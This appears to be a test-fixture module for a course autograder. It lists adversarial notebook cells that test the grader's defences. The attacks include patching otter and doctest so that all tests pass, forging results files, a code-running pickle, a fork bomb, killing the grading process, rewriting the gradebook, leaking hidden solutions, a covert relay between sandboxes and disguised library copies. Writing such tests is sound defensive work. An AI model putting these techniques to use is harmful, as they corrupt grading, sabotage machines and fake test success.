"""Realistic attacks on grading, graded by tests/test_grading.py (assignment a1).

Each attack is a notebook a student could hand in: the blank student notebook or
the solution (``base``), with code cells added at the start or the end. Placeholders
in the code are filled in by the test with real paths of the run, so that an
attack aims at the files it would aim at on a lecturer's machine:

``{ROOT}`` the repository, ``{OUT}`` the grading output folder (gradebook,
feedback), ``{SENTINEL}`` a file outside the submission's folder that must never
be created, ``{MARK}`` a word that must never appear in the gradebook or in any
feedback, ``{TAG}`` a word in the command line of any process an attack starts
(none may be left running).

The expected outcome: at most ``max_total`` points (the blank notebook earns 0; an
attack on top of the solution may keep the solution's full marks, which it earned),
``flagged`` when the static scan must name it, and ``status`` when it is fixed.
Every attack is also checked for what it must not do: create the sentinel, change
the gradebook or another student's feedback, leave a process running.
"""

import ast
import base64
import json
import zlib
from pathlib import Path

ATTACKS = [
    {
        "name": "patch otter's test runner so that every test passes",
        "base": "student",
        "append": [
            "import otter.test_files.abstract_test as _t\n"
            "_t.TestFile.passed_all = property(lambda self: True)\n"
            "_t.TestFile.grade = property(lambda self: 1.0)\n"
            "import otter.execute\n"
            "otter.execute.Checker = None\n"
        ],
        "max_total": 0,
        "flagged": True,
    },
    {
        "name": "patch doctest so that no example fails",
        "base": "student",
        "append": [
            "import doctest\n"
            "_run = doctest.DocTestRunner.run\n"
            "def _always(self, test, *a, **k):\n"
            "    return doctest.TestResults(0, len(test.examples))\n"
            "doctest.DocTestRunner.run = _always\n"
        ],
        "max_total": 0,
        "flagged": True,
    },
    {
        "name": "make numpy's comparisons and the builtins always agree",
        "base": "student",
        "append": [
            "import builtins\n"
            "np.allclose = lambda *a, **k: True\n"
            "np.isclose = lambda *a, **k: np.array(True)\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n"
            "builtins.all = lambda *a: True\n"
            "builtins.isinstance = lambda *a: True\n"
        ],
        "max_total": 0,
        "flagged": True,
    },
    {
        "name": "redefine the helpers the tests call (Model, simulate, cluster_count)",
        "base": "student",
        "append": [
            "class Model:\n"
            "    def __init__(self, *a, **k):\n"
            "        pass\n"
            "    def attention(self, X):\n"
            "        return np.zeros((len(X), len(X)))\n"
            "    def velocity(self, X):\n"
            "        return np.zeros_like(X)\n"
            "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    return np.zeros((len(X), len(X)))\n"
            "def velocity(X, beta, Q=None, K=None, V=None, normalization='sa'):\n"
            "    return np.zeros_like(X)\n"
            "def cluster_count(X, delta):\n"
            "    return 1\n"
            "def sample_sphere(n, d, rng=None):\n"
            "    return np.ones((n, d)) / np.sqrt(d)\n"
        ],
        "max_total": 0,
        "flagged": False,
    },
    {
        "name": "act only while grading: patch the tests when otter is loaded",
        "base": "student",
        "append": [
            "import sys, os\n"
            "if 'otter' in sys.modules or 'GRADING' in os.environ:\n"
            "    np.allclose = lambda *a, **k: True\n"
            "    for _m in list(sys.modules):\n"
            "        if _m.startswith('otter'):\n"
            "            sys.modules[_m] = None\n"
        ],
        "max_total": 0,
        "flagged": True,
    },
    {
        "name": "write a forged results.json and a code-running results.pkl, then exit",
        "base": "student",
        "append": [
            "import json, os, pickle\n"
            "class _Boom:\n"
            "    def __reduce__(self):\n"
            "        return (os.system, ('touch {SENTINEL}',))\n"
            "json.dump({'score': 18, 'tests': []}, open('results.json', 'w'))\n"
            "pickle.dump(_Boom(), open('results.pkl', 'wb'))\n"
            "os._exit(0)\n"
        ],
        "max_total": 0,
        "flagged": True,
        "status": "failed",
    },
    {
        "name": "a detached process that rewrites the gradebook and a classmate's "
        "feedback after grading",
        "base": "solution",
        "append": [
            "import subprocess, sys\n"
            "_code = ('import time; time.sleep(3); '\n"
            '         \'open("{OUT}/gradebook.csv", "a").write("{MARK}\\\\n"); \'\n'
            '         \'open("{OUT}/feedback/victim.md", "w").write("{MARK}"); \'\n'
            '         \'open("{SENTINEL}", "w").write("{MARK}")\')\n'
            "subprocess.Popen([sys.executable, '-c', _code, '{TAG}'],\n"
            "                 start_new_session=True, stdin=subprocess.DEVNULL,\n"
            "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        ],
        "max_total": 18,
        "flagged": True,
    },
    {
        "name": "a double-forked daemon that outlives its parent",
        "base": "solution",
        "append": [
            "import os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        os.execvp('sleep', ['sleep', '600', '{TAG}'])\n"
            "    os._exit(0)\n"
            "time.sleep(0.5)\n"
        ],
        "max_total": 18,
        "flagged": True,
    },
    {
        "name": "read the hidden tests and the solutions, and show them in feedback",
        "base": "student",
        "append": [
            "import glob\n"
            "_loot = ''\n"
            "for _p in (glob.glob('{ROOT}/book/assignments/*.md')\n"
            "           + glob.glob('{ROOT}/_build/assignments/*/*.zip')\n"
            "           + glob.glob('{ROOT}/../../**/a1_modelling.md',\n"
            "                       recursive=True)):\n"
            "    _loot += open(_p, errors='replace').read()\n"
            "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    raise ValueError(_loot[-2000:] or 'nothing found')\n"
        ],
        "max_total": 0,
        "flagged": True,
    },
    {
        "name": "write into the lecturer's home directory",
        "base": "student",
        "append": [
            "from pathlib import Path\n"
            "for _p in [Path.home() / '{MARK}.txt', Path('{SENTINEL}')]:\n"
            "    try:\n"
            "        _p.write_text('{MARK}')\n"
            "    except OSError:\n"
            "        pass\n"
        ],
        "max_total": 0,
        "flagged": True,
    },
    {
        "name": "implement questions as one-line wrappers around attnlib",
        "base": "student",
        "append": [
            "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    return Model(beta=beta, Q=Q, K=K, normalization=normalization)"
            ".attention(X)\n"
            "def velocity(X, beta, Q=None, K=None, V=None, normalization='sa'):\n"
            "    return Model(beta=beta, Q=Q, K=K, V=V, normalization=normalization)"
            ".velocity(X)\n"
            "def euler_step(X, h, beta, Q=None, K=None, V=None, normalization='sa'):\n"
            "    _m = Model(beta=beta, Q=Q, K=K, V=V, normalization=normalization)\n"
            "    return simulate(_m, X, t_final=h, dt=h, method='euler').final\n"
        ],
        "max_total": 0,
        "flagged": False,
        "library": ["q1_attention", "q2_velocity", "q3_euler_step"],
    },
    {
        "name": "the same wrappers through references taken before grading",
        "base": "student",
        "append": [
            "import attnlib.attention as _att\n"
            "_attention = _att.Model.attention\n"
            "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    _m = _att.Model(beta=beta, Q=Q, K=K, normalization=normalization)\n"
            "    return _attention(_m, X)\n"
        ],
        "max_total": 0,
        "flagged": False,
        "library": ["q1_attention"],
    },
    {
        "name": "switch the library guard off inside the function",
        "base": "student",
        "append": [
            "import sys\n"
            "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    _hook = sys.getprofile()\n"
            "    sys.setprofile(None)\n"
            "    try:\n"
            "        return Model(beta=beta, Q=Q, K=K, normalization=normalization)"
            ".attention(X)\n"
            "    finally:\n"
            "        sys.setprofile(_hook)\n"
        ],
        "max_total": 4,
        "flagged": True,
    },
    # the six ways around a guard that watched the library's code run: where the
    # implement functions are called there is no library to run
    {
        "name": "call the library in a worker thread",
        "base": "student",
        "append": [
            "import threading\n"
            "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    _out = []\n"
            "    _t = threading.Thread(target=lambda: _out.append(\n"
            "        Model(beta=beta, Q=Q, K=K, normalization=normalization)"
            ".attention(X)))\n"
            "    _t.start()\n"
            "    _t.join()\n"
            "    return _out[0]\n"
        ],
        "max_total": 0,
        "library": ["q1_attention"],
    },
    {
        "name": "switch the profiler off through getattr",
        "base": "student",
        "append": [
            "import sys\n"
            "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    getattr(sys, 'setprofile')(None)\n"
            "    getattr(__import__('threading'), 'setprofile')(None)\n"
            "    return Model(beta=beta, Q=Q, K=K, normalization=normalization)"
            ".attention(X)\n"
        ],
        "max_total": 0,
        "library": ["q1_attention"],
    },
    {
        "name": "replace the harness's call through the signal handler's globals",
        "base": "student",
        "append": [
            "%time _g = __import__('signal').getsignal(__import__('signal')"
            ".SIGPROF).__globals__\n"
            "def _no_guard(func, args, kwargs, *rest):\n"
            "    try:\n"
            "        return func(*args, **kwargs), None, [], False\n"
            "    except BaseException:\n"
            "        return None, None, [], False\n"
            "for _k in ('_guarded_call', '_call'):\n"
            "    _g[_k] = _no_guard\n"
            "_g.get('_ABSENT_USED', []).clear()\n"
            "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    return Model(beta=beta, Q=Q, K=K, normalization=normalization)"
            ".attention(X)\n"
        ],
        "max_total": 0,
    },
    {
        "name": "a bash cell that writes a helper module around the library",
        "base": "student",
        "append": [
            "%%bash\n"
            "mkdir -p /tmp/helpers\n"
            "cat > /tmp/helpers/myattn.py <<'PY'\n"
            "from attnlib import Model\n"
            "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    return Model(beta=beta, Q=Q, K=K, normalization=normalization)"
            ".attention(X)\n"
            "PY\n",
            "import sys\n"
            "sys.path.insert(0, '/tmp/helpers')\n"
            "from myattn import attention_matrix\n",
        ],
        "max_total": 0,
        "library": ["q1_attention"],
    },
    {
        "name": "a copy of the library's files under another name",
        "base": "student",
        "append": [
            "import os, shutil, sys, attnlib\n"
            "shutil.copytree(os.path.dirname(attnlib.__file__), '/tmp/notattn/mylib')\n"
            "sys.path.insert(0, '/tmp/notattn')\n"
            "import mylib\n"
            "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    return mylib.Model(beta=beta, Q=Q, K=K, normalization=normalization)"
            ".attention(X)\n"
        ],
        "max_total": 0,
    },
    {
        "name": "run the library's call as a cell of the shell",
        "base": "student",
        "append": [
            "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    _ip = get_ipython()\n"
            "    _ip.user_ns['_args'] = (X, beta, Q, K, normalization)\n"
            "    _ip.run_cell('_out = Model(beta=_args[1], Q=_args[2], K=_args[3], '\n"
            "                 'normalization=_args[4]).attention(_args[0])')\n"
            "    return _ip.user_ns['_out']\n"
        ],
        "max_total": 0,
        "library": ["q1_attention"],
    },
    {
        "name": "a derive answer taken from the library's own reference",
        "base": "student",
        "append": [
            "import attnlib.symbolic\nnorm_rate = attnlib.symbolic.norm_rate(3).rate\n"
        ],
        "max_total": 0,
        "library": ["q4_derive"],
    },
    {
        "name": "a hundred detached processes",
        "base": "student",
        "append": [
            "import subprocess\n"
            "_procs = []\n"
            "for _i in range(100):\n"
            "    try:\n"
            "        _procs.append(subprocess.Popen(['sleep', '600', '{TAG}'],\n"
            "                                       start_new_session=True))\n"
            "    except OSError:\n"
            "        break\n"
        ],
        "max_total": 0,
        "flagged": True,
    },
    {
        "name": "a fork bomb",
        "base": "student",
        "prepend": [
            "import os\n"
            "for _i in range(8):  # 256 processes wanted\n"
            "    try:\n"
            "        os.fork()\n"
            "    except OSError:\n"
            "        pass\n"
        ],
        "max_total": 0,
        "flagged": True,
    },
    {
        "name": "take all the memory",
        "base": "solution",
        "append": ["_hog = [np.ones(2**27) for _ in range(64)]  # 64 GiB\n"],
        "max_total": 18,
        "flagged": False,
        "status": "graded",
    },
    {
        "name": "fill the disk",
        "base": "solution",
        "append": [
            "with open('big.bin', 'wb') as _fh:\n"
            "    for _ in range(4096):\n"
            "        _fh.write(b'0' * 2**20)\n"
        ],
        "max_total": 18,
        "flagged": False,
        "status": "graded",
    },
    {
        "name": "burn CPU for ever",
        "base": "student",
        "append": ["while True:\n    pass\n"],
        "max_total": 0,
        "flagged": False,
        "status": "timeout",
    },
    {
        "name": "burn CPU in background processes",
        "base": "solution",
        "append": [
            "import multiprocessing as _mp\n"
            "def _spin():\n"
            "    while True:\n"
            "        pass\n"
            "for _i in range(8):\n"
            "    _mp.Process(target=_spin, daemon=False).start()\n"
        ],
        "max_total": 18,
        "flagged": True,
    },
    {
        "name": "kill the grading process",
        "base": "student",
        "append": [
            "import os, signal\n"
            "for _pid in (os.getppid(), 1):\n"
            "    try:\n"
            "        os.kill(_pid, signal.SIGKILL)\n"
            "    except OSError:\n"
            "        pass\n"
            "os.killpg(0, signal.SIGKILL)\n"
        ],
        "max_total": 0,
        "flagged": True,
    },
    {
        "name": "forge the messages to the tester",
        "base": "student",
        "append": [
            "import os, json, struct\n"
            "_msg = json.dumps({'op': 'executed', 'answers': {}, 'errors': [],\n"
            "                   'scores': {'q1_attention': 4}}).encode()\n"
            "for _fd in range(3, 40):\n"
            "    try:\n"
            "        os.write(_fd, struct.pack('>Q', len(_msg)) + _msg)\n"
            "    except OSError:\n"
            "        pass\n"
        ],
        "max_total": 0,
        "flagged": True,
    },
    {
        "name": "return objects that equal everything",
        "base": "student",
        "append": [
            "class _Yes(np.ndarray):\n"
            "    pass\n"
            "class _Anything:\n"
            "    shape = (6, 6)\n"
            "    def __eq__(self, other):\n"
            "        return True\n"
            "    def __array__(self, *a, **k):\n"
            "        return np.zeros((6, 6))\n"
            "    def sum(self, *a, **k):\n"
            "        return np.ones(6)\n"
            "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    return _Anything()\n"
            "t_merge = _Anything()\n"
            "clusters_at_20 = _Anything()\n"
        ],
        "max_total": 0,
        "flagged": False,
    },
    {
        "name": "sympy answers that run code when the tests parse them",
        "base": "student",
        "append": [
            "norm_rate = \"__import__('os').system('touch {SENTINEL}')\"\n"
            "theta_rate = sp.Function('exit')(theta)\n"
        ],
        "max_total": 0,
        "flagged": False,
    },
]


# A relay between two sandboxes that run at the same time: the one with attnlib
# answers the calls of the one without it, through advisory locks on a file both
# see read-only (a read lock on byte N of a shared file is a byte the other side
# reads with F_GETLK; flock and fcntl locks need no write access). ``serve``: the
# sandbox with the library answers on ``channel``; ``ask``: the sandbox without it
# asks on ``channel`` for the "implement" functions of a1.
RELAY = """\
import os, json, struct, fcntl, threading, time
import attnlib as _lib
_HAS_LIB = _lib.__file__ is not None  # None in the grader's stand-in
_FD = os.open(struct.__file__, os.O_RDONLY)  # a file every sandbox sees
_F = 'hhqqi4x'
_REQ = CHANNEL << 40
_RESP = _REQ + (1 << 36)
def _lk(start, length=1, kind=fcntl.F_RDLCK):
    fcntl.fcntl(_FD, fcntl.F_SETLK, struct.pack(_F, kind, 0, start, length, 0))
def _probe(start, length):
    q = struct.pack(_F, fcntl.F_WRLCK, 0, start, length, 0)
    kind, _w, found, _l, _p = struct.unpack(_F, fcntl.fcntl(_FD, fcntl.F_GETLK, q))
    return None if kind == fcntl.F_UNLCK else found - start
def _send(region, data):
    _lk(region, 1 << 35, fcntl.F_UNLCK)
    for i, b in enumerate(b'%016d' % len(data) + data):
        _lk(region + 512 * (i + 1) + b)
    _lk(region)  # ready, last
def _recv(region):
    if _probe(region, 1) is None:
        return None
    n = int(bytes(_probe(region + 512 * (i + 1), 256) for i in range(16)))
    return bytes(_probe(region + 512 * (i + 17), 256) for i in range(n))
def _enc(x):
    if isinstance(x, np.ndarray):
        return {'nd': x.tolist()}
    if isinstance(x, (list, tuple)):
        return [_enc(v) for v in x]
    if isinstance(x, dict):
        return {'kw': {k: _enc(v) for k, v in x.items()}}
    return x.item() if isinstance(x, np.generic) else x
def _dec(x):
    if isinstance(x, dict) and 'nd' in x:
        return np.array(x['nd'])
    if isinstance(x, dict):
        return {k: _dec(v) for k, v in x['kw'].items()}
    return [_dec(v) for v in x] if isinstance(x, list) else x
_DONE = [None, time.time() + 60]
def _serve(funcs):
    while True:
        try:
            req = json.loads(_recv(_REQ) or b'null')
            if req and req['id'] != _DONE[0]:
                try:
                    f = funcs[req['f']]
                    out = {'ok': _enc(f(*_dec(req['a']), **_dec(req['k'])))}
                except Exception as exc:
                    out = {'err': repr(exc)}
                out['id'] = _DONE[0] = req['id']
                _send(_RESP, json.dumps(out).encode())
                _DONE[1] = time.time() + 20
        except Exception:
            pass
        time.sleep(0.002)
def _ask(f, a, k):
    tag = time.time_ns()
    _send(_REQ, json.dumps({'id': tag, 'f': f, 'a': _enc(a), 'k': _enc(k)}).encode())
    end = time.time() + 30
    while time.time() < end:
        try:
            r = json.loads(_recv(_RESP) or b'null')
        except Exception:
            r = None
        if r and r['id'] == tag:
            _lk(_REQ, 1 << 35, fcntl.F_UNLCK)
            if 'err' in r:
                raise ValueError(r['err'])
            return _dec(r['ok'])
        time.sleep(0.002)
    raise TimeoutError('no answer')
if _HAS_LIB:
    from attnlib import Model as _M, simulate as _S
    def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):
        return _M(beta=beta, Q=Q, K=K, normalization=normalization).attention(X)
    def velocity(X, beta, Q=None, K=None, V=None, normalization='sa'):
        return _M(beta=beta, Q=Q, K=K, V=V, normalization=normalization).velocity(X)
    def euler_step(X, h, beta, Q=None, K=None, V=None, normalization='sa'):
        m = _M(beta=beta, Q=Q, K=K, V=V, normalization=normalization)
        return _S(m, X, t_final=h, dt=h, method='euler').final
    if SERVE:
        _funcs = {'attention_matrix': attention_matrix, 'velocity': velocity,
                  'euler_step': euler_step}
        threading.Thread(target=_serve, args=(_funcs,), daemon=True).start()
        while time.time() < _DONE[1]:  # stay while the other side asks
            time.sleep(0.2)
if ASK and not _HAS_LIB:
    def attention_matrix(*a, **k):
        return _ask('attention_matrix', a, k)
    def velocity(*a, **k):
        return _ask('velocity', a, k)
    def euler_step(*a, **k):
        return _ask('euler_step', a, k)
"""


def relay(channel: int, serve: bool, ask: bool) -> str:
    """The cell of a relay on ``channel`` (see :data:`RELAY`)."""
    return (
        RELAY.replace("CHANNEL", str(channel))
        .replace("SERVE", str(serve))
        .replace("ASK", str(ask))
    )


ATTACKS += [
    {
        "name": "relay within one submission: the sandbox with attnlib answers",
        "base": "solution",
        "append": [relay(1, serve=True, ask=True)],
        # the implement questions (11 points) need the relay
        "max_total": 7,
    },
    {
        # graded at the same time as the next one (JOBS=2, sorted by name)
        "name": "relay between submissions 1: serves attnlib",
        "base": "student",
        "append": [relay(2, serve=True, ask=False)],
        "max_total": 0,
    },
    {
        "name": "relay between submissions 2: asks submission 1",
        "base": "solution",
        "append": [relay(2, serve=False, ask=True)],
        "max_total": 7,
    },
]


# --- copies of the library, disguised ------------------------------------------

_LIBRARY = Path(__file__).resolve().parents[2] / "attnlib"


def packed_library() -> str:
    """attnlib's source, every file, as base64 of zlib of JSON {path: text}."""
    files = {
        str(p.relative_to(_LIBRARY)): p.read_text(encoding="utf-8")
        for p in sorted(_LIBRARY.rglob("*.py"))
    }
    raw = json.dumps(files).encode()
    return base64.b64encode(zlib.compress(raw, 9)).decode()


def disguised(name: str, new_name: str, *, rename: bool = False) -> str:
    """The source of the function ``name`` of ``attnlib/_kernel.py`` under
    ``new_name``, with a statement that does nothing added at the start of its
    body (after another docstring), and with ``rename`` its arguments and local
    variables renamed: a copy that an exact hash of the code misses."""
    tree = ast.parse((_LIBRARY / "_kernel.py").read_text(encoding="utf-8"))
    fn = next(n for n in tree.body if isinstance(n, ast.FunctionDef) and n.name == name)
    if rename:
        local = {a.arg for a in ast.walk(fn) if isinstance(a, ast.arg)}
        local |= {
            n.id
            for n in ast.walk(fn)
            if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Store)
        }

        class Rename(ast.NodeTransformer):
            def visit_Name(self, node):
                if node.id in local:
                    node.id = f"my_{node.id}"
                return node

            def visit_arg(self, node):
                if node.arg in local:
                    node.arg = f"my_{node.arg}"
                return node

        Rename().visit(fn)
    fn.name = new_name
    body = fn.body
    if (
        body
        and isinstance(body[0], ast.Expr)
        and isinstance(body[0].value, ast.Constant)
    ):
        body[0] = ast.Expr(ast.Constant("My own weights."))
    body.insert(1, ast.Pass())
    return ast.unparse(fn) + "\n"


ATTACKS += [
    {
        "name": "a compressed copy of attnlib, unpacked and imported as mylib",
        "base": "student",
        "append": [
            "import base64, json, os, sys, zlib\n"
            f"_blob = '{packed_library()}'\n"
            "for _path, _text in json.loads(zlib.decompress("
            "base64.b64decode(_blob))).items():\n"
            "    _file = os.path.join('mylib', _path)\n"
            "    os.makedirs(os.path.dirname(_file), exist_ok=True)\n"
            "    with open(_file, 'w') as _fh:\n"
            "        _fh.write(_text)\n"
            "sys.path.insert(0, os.getcwd())\n"
            "import mylib\n"
            "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    return mylib.Model(beta=beta, Q=Q, K=K,\n"
            "                       normalization=normalization).attention(X)\n"
            "def velocity(X, beta, Q=None, K=None, V=None, normalization='sa'):\n"
            "    return mylib.Model(beta=beta, Q=Q, K=K, V=V,\n"
            "                       normalization=normalization).velocity(X)\n"
        ],
        "max_total": 18,
        "flagged": True,
    },
    {
        "name": "attnlib's functions pasted with a no-op statement added to each",
        "base": "student",
        "append": [
            disguised("logits", "my_logits")
            + disguised("attention_weights", "my_weights")
            + "def attention_matrix(X, beta, Q=None, K=None, normalization='sa'):\n"
            "    return my_weights(my_logits(X, beta), normalization)[0]\n"
        ],
        "max_total": 0,  # no points for implement questions with a copy
        "flagged": True,
    },
    {
        "name": "the solution with a cell holding a comment",
        "base": "solution",
        "append": ["# I did it all myself\n", "\n"],
        "max_total": 18,
        "flagged": True,
    },
]
